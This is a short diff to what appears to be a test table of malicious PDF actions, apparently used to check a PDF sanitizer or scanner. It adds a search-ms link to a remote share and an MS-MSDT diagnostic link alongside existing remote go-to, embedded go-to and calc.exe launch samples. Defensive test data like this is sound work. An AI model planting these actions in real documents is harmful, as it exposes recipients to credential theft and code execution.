@@ -251,6 +251,10 @@ LAUNCHES = {
     "object stream": with_object_stream(b"<</A" + LAUNCH + b">>"),
     "remote go-to": raw_pdf(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>"),
     "embedded go-to": raw_pdf(b"/OpenAction<</S/GoToE/F<</F(//evil.example/x)>>/D[0/Fit]>>"),
+    "link to a search elsewhere": raw_pdf(
+        objects={4: b"<</S/URI/URI(search-ms:query=a&crumb=location:\\\\\\\\192.0.2.1\\\\a)>>"}
+    ),
+    "link to a diagnosis": raw_pdf(objects={4: b"<</S/URI/URI(MS-MSDT:/id PCWDiagnostic)>>"}),
     "link to a program": raw_pdf(objects={4: b"<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>"}),
 }
 
